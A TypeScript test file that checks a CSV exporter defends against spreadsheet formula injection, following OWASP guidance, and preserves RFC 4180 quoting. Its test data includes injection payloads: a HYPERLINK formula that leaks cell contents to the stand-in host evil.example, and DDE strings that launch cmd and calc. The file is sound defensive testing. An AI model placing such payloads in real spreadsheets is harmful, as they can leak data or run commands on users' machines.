import { mkdtempSync, readFileSync, writeFileSync } from "node:fs";
import os from "node:os";
import path from "node:path";
import { parse } from "csv-parse/sync";
import { describe, expect, it } from "vitest";
import type { SubmittedRecord } from "./record-schema";
import { neutralizeCsvCell, writeDelimitedRows } from "./csv-cell";
import { exportChunks } from "./write-export";

// CSV injection (https://owasp.org/www-community/attacks/CSV_Injection): text a reviewer typed must
// reach a spreadsheet as text, never as a formula.

const ATTACK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")';

async function collect(gen: AsyncGenerator<string>) {
  let out = "";
  for await (const c of gen) out += c;
  return out;
}

/**
 * What a spreadsheet would evaluate: a formula trigger first (OWASP, plus the full-width forms Apple
 * Numbers folds into them), unless the whole cell is a number.
 */
const startsLikeFormula = (cell: string) => /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/.test(cell) && !(cell.trim() !== "" && Number.isFinite(Number(cell)));

describe("neutralizeCsvCell", () => {
  it("prefixes a quote to cells that start with =, +, -, @, tab or carriage return", () => {
    for (const cell of [ATTACK, "+1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(A1:A9)", "\t=1", "\r=1", "\uFF1D1+1", "-", "--5", "- 0.5"]) {
      expect(neutralizeCsvCell(cell)).toBe(`'${cell}`);
    }
  });

  it("leaves cells that are exactly a number, and ordinary text, unchanged", () => {
    for (const cell of ["-0.5", "-1", "-12.25", "-.5", "-1e-7", "-2.5E+21", "0", "42", "", "met", "dangerous, \"really\"", "'quoted already", " =leading space"]) {
      expect(neutralizeCsvCell(cell)).toBe(cell);
    }
  });
});

describe("writeDelimitedRows", () => {
  it("round-trips any text through a real CSV reader, comma- or tab-separated (RFC 4180 quoting)", () => {
    const texts = ["", "plain", "a,b", 'say "hi"', '"', '""', "line\nbreak", "cr\rlf\r\n", "tab\there", " padded ", "ünïcødé ✓ 中文", "'quoted", "1,5", "-0.5", "=1+1", "\t=1"];
    for (const delimiter of [",", "\t"] as const) {
      const rows = texts.map((t, i) => [String(i), t, `${t}|${t}`]);
      const expected = rows.map((r) => r.map(neutralizeCsvCell));
      const text = writeDelimitedRows(rows.map((r) => [...r]), delimiter);
      expect(text.endsWith("\n")).toBe(true);
      expect(parse(text, { delimiter, relax_quotes: false })).toEqual(expected);
    }
  });
});

describe("the CSV export as a spreadsheet reads it", () => {
  it("reads every reviewer-typed formula back as text, and negative scores as numbers", async () => {
    const record: SubmittedRecord = {
      status: "submitted", kind: "qa", annotationId: "a1", version: 1, rubricVersion: 1, project: "p", batch: "=batch", assignmentId: "as1", itemId: "i1", externalId: "@ext",
      reviewer: "R-abc", submittedAt: "2026-01-01T00:00:00.000Z", timeOnTaskMs: 1,
      responses: [{
        responseId: "r1", label: "A", modelName: "+model", shownAs: 1, ratings: { harm_extent: "-none" }, comments: { harm_extent: ATTACK },
        criteria: [{ criterionId: "c1", number: 1, text: "-5 points if it says =1+1", points: -5, tags: [], met: true, note: "\t=cmd" }], criteriaScore: -0.5,
      }],
      itemRatings: {}, itemComments: {}, overallComment: "@SUM(1+1)*cmd|' /C calc'!A0",
    };
    const file = path.join(mkdtempSync(path.join(os.tmpdir(), "consilium-csv-")), "export.csv");
    writeFileSync(file, await collect(exportChunks("csv", (async function* () { yield record; })())));

    const rows: Record<string, string>[] = parse(readFileSync(file), { columns: true });
    expect(rows.length).toBeGreaterThan(3);
    for (const row of rows) for (const cell of Object.values(row)) expect(startsLikeFormula(cell), cell).toBe(false);

    const rating = rows.find((r) => r.target === "response")!;
    expect(rating.comment).toBe(`'${ATTACK}`);
    expect([rating.value, rating.model_name, rating.batch, rating.external_id]).toEqual(["'-none", "'+model", "'=batch", "'@ext"]);
    expect(rows.find((r) => r.axis === "criterion:1")).toMatchObject({ comment: "'\t=cmd", criterion_text: "'-5 points if it says =1+1", criterion_points: "-5" });
    expect(rows.find((r) => r.axis === "criteria_score")!.value).toBe("-0.5");
    expect(rows.find((r) => r.axis === "overall_comment")!.comment).toBe("'@SUM(1+1)*cmd|' /C calc'!A0");
  });
});
